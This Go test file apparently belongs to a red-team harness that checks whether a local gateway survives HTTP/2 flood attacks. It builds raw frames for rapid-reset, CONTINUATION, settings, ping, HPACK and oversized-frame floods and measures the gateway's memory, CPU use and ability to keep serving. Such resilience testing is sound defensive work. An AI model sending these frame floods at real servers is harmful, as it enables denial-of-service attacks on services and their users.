package main

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/isogloss-gateway/isogloss/internal/test/testrig"
)

// Frame types and flags of HTTP/2 that the attacks use.
const (
	frameData, frameHeaders, framePriority, frameReset, frameSettings, framePing, frameWindow, frameContinuation = 0, 1, 2, 3, 4, 6, 8, 9

	flagEndStream, flagEndHeaders = 1, 4
)

// frame returns a frame of HTTP/2.
func frame(kind, flags byte, stream uint32, payload string) string {
	n := len(payload)
	return string([]byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags, byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)}) + payload
}

// preface starts a connection; the settings are empty.
var preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(frameSettings, 0, 0, "")

// headerBlock is GET /metrics in the static table of HPACK, with an authority of four bytes.
const headerBlock = "\x82\x87\x04\x08/metrics\x01\x04host"

// floods returns what is written to a connection after the preface, at most n times. A
// server may close the connection at any time; it must not use memory or time without end.
func floods() map[string]func(i uint32) string {
	zero := "\x00\x00\x00\x00"
	return map[string]func(i uint32) string{
		"rapid-reset": func(i uint32) string {
			return frame(frameHeaders, flagEndHeaders|flagEndStream, 2*i+1, headerBlock) + frame(frameReset, 0, 2*i+1, "\x00\x00\x00\x08")
		},
		"open-streams": func(i uint32) string { return frame(frameHeaders, flagEndHeaders, 2*i+1, headerBlock) },
		"settings":     func(uint32) string { return frame(frameSettings, 0, 0, "\x00\x03\x00\x00\x00\x64") },
		"settings-ack": func(uint32) string { return frame(frameSettings, 1, 0, "") },
		"ping":         func(uint32) string { return frame(framePing, 0, 0, "12345678") },
		"priority":     func(i uint32) string { return frame(framePriority, 0, 2*i+1, zero+"\x10") },
		"continuation": func(i uint32) string {
			return first(i, frame(frameHeaders, 0, 1, headerBlock)) + frame(frameContinuation, 0, 1, "\x00\x01a\x7f\x81\x3e"+strings.Repeat("b", 317))
		},
		"empty-continuation": func(i uint32) string {
			return first(i, frame(frameHeaders, 0, 1, headerBlock)) + frame(frameContinuation, 0, 1, "")
		},
		"empty-data": func(i uint32) string {
			return first(i, frame(frameHeaders, flagEndHeaders, 1, headerBlock)) + frame(frameData, 0, 1, "")
		},
		"window-zero":   func(uint32) string { return frame(frameWindow, 0, 0, zero) },
		"window-big":    func(uint32) string { return frame(frameWindow, 0, 0, "\x7f\xff\xff\xff") },
		"huge-frame":    func(uint32) string { return frame(frameData, 0, 1, strings.Repeat("a", 1<<20)) },
		"even-stream":   func(i uint32) string { return frame(frameHeaders, flagEndHeaders|flagEndStream, 2*i+2, headerBlock) },
		"unknown-frame": func(uint32) string { return frame(0xee, 0, 0, strings.Repeat("a", 1000)) },
		"bad-hpack": func(i uint32) string {
			return frame(frameHeaders, flagEndHeaders|flagEndStream, 2*i+1, "\xff\xff\xff\xff\xff\xff\xff")
		},
		"table-size": func(i uint32) string {
			return frame(frameHeaders, flagEndHeaders|flagEndStream, 2*i+1, strings.Repeat("\x20\x3f\xe1\x1f", 100)+headerBlock)
		},
	}
}

// first returns the text for the first frame only.
func first(i uint32, text string) string {
	if i == 0 {
		return text
	}
	return ""
}

// Bounds of a flood of at most this many frames.
const (
	floodFrames = 20_000
	floodMemory = 96 << 20
	floodTime   = 20 * time.Second
)

func floodAttacks() (all []attack) {
	for name, next := range floods() {
		for _, admin := range []bool{false, true} {
			port := map[bool]string{false: "client", true: "admin"}[admin]
			do := func(ctx context.Context, r *rig) *evidence {
				return r.flood(func() (net.Conn, error) { return r.dialTLS(ctx, admin) }, next)
			}
			all = append(all, attack{name: "http2/" + port + "/" + name, do: do, unproven: "the weak gateway has no TLS"})
		}
	}
	return all
}

// clearFloodAttacks are the same on a client port that speaks HTTP/2 without TLS.
func clearFloodAttacks() (all []attack) {
	for name, next := range floods() {
		do := func(ctx context.Context, r *rig) *evidence {
			return r.flood(func() (net.Conn, error) { return new(net.Dialer).DialContext(ctx, "tcp", r.address(false)) }, next)
		}
		all = append(all, attack{name: "h2c/" + name, do: do, unproven: "the weak gateway has no HTTP/2"})
	}
	return all
}

// h2cConfig lets the client port speak HTTP/2 without TLS.
func h2cConfig(r *rig) *config {
	c := tenantStore(r)
	c.top = append(c.top, "h2c: true")
	return c
}

// flood writes frames until the gateway closes the connection, and then uses the port as
// other clients do.
func (r *rig) flood(dial func() (net.Conn, error), next func(uint32) string) *evidence {
	e := &evidence{sent: fmt.Sprintf("%q … %d times", testrig.Clip(next(0)+next(1), 300), floodFrames)}
	before, cpu := testrig.ProcessMemory(r.gateway.PID(), "VmRSS"), processTime(r.gateway.PID())
	conn := testrig.Must(dial())
	defer conn.Close()
	testrig.NoError(conn.SetDeadline(time.Now().Add(patience)))
	go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
	_, err := io.WriteString(conn, preface)
	written := 0
	for i := uint32(0); err == nil && i < floodFrames && written < 64<<20; i++ {
		var n int
		n, err = io.WriteString(conn, next(i))
		written += n
	}
	grown, used := testrig.ProcessMemory(r.gateway.PID(), "VmHWM")-before, processTime(r.gateway.PID())-cpu
	e.note = fmt.Sprintf("%d bytes, then %v; memory +%.0f MB, %v", written, err, grown/1e6, used)
	e.figure(grown > floodMemory, "memory has grown by %.0f MB", grown/1e6)
	e.figure(used > floodTime, "it took %v of processor time", used)
	other, err := dial()
	e.problem(err != nil, "another client cannot connect: %v", err)
	if err == nil {
		defer other.Close()
		testrig.NoError(other.SetDeadline(time.Now().Add(patience)))
		_, _ = io.WriteString(other, preface+frame(frameHeaders, flagEndHeaders|flagEndStream, 1, headerBlock)) // judged by what comes back
		answer := make([]byte, 9)
		_, err = io.ReadFull(other, answer)
		e.problem(err != nil, "another client is not served: %v", err)
	}
	return e
}

// dialTLS connects with HTTP/2.
func (r *rig) dialTLS(ctx context.Context, admin bool) (net.Conn, error) {
	d := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}}
	return d.DialContext(ctx, "tcp", r.address(admin))
}

// floodRig starts a gateway that serves both ports with TLS.
func floodRig(ctx context.Context, o options) (*rig, error) {
	if o.prove {
		return start(tenantStore)(ctx, o)
	}
	r, err := newRig(o)
	if err != nil {
		return nil, err
	}
	err = testrig.Run(func() {
		g := testrig.Must(testrig.NewGateway(r.bin, "", "tls"))
		r.gateway = g
		cert, key := writeCertificate(g.Dir)
		c := (&config{top: []string{fmt.Sprintf("tls: { cert: %q, key: %q }", cert, key)}}).standard(r.up)
		text := fmt.Sprintf("listen: %s\nadmin: { listen: %s, tls: { cert: %q, key: %q } }\n", r.address(false), r.address(true), cert, key) + c.yaml()
		testrig.NoError(os.WriteFile(g.Config, []byte(text), 0o600))
		testrig.NoError(g.Launch())
		testrig.NoError(testrig.Until(ctx, patience, "the gateway does not serve TLS", func() bool {
			conn, err := r.dialTLS(ctx, true)
			if err == nil {
				_ = conn.Close() // only whether it can be opened counts
			}
			return err == nil && g.PID() != 0
		}))
	})
	if err != nil {
		r.close()
		return nil, err
	}
	return r, nil
}

// writeCertificate writes a certificate for loopback and its key.
func writeCertificate(dir string) (certFile, keyFile string) {
	key := testrig.Must(ecdsa.GenerateKey(elliptic.P256(), rand.Reader))
	template := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "redteam"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}}
	der := testrig.Must(x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key))
	certFile, keyFile = filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	testrig.NoError(os.WriteFile(certFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o600))
	private := testrig.Must(x509.MarshalPKCS8PrivateKey(key))
	testrig.NoError(os.WriteFile(keyFile, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: private}), 0o600))
	return certFile, keyFile
}
